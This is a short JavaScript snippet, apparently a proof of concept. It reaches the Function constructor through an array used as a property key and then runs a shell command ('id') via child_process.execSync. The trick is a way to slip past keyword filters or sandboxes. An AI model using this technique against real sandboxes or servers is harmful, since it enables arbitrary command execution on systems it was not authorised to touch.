// A member read with an array as the key: ['x'] converts to the string 'x'.
const key = ['constructor'];
const F = [].at[key];
const body = 'return process.getBuiltinModule("child_process").execSync("id").toString()';
console.log(F(body)());
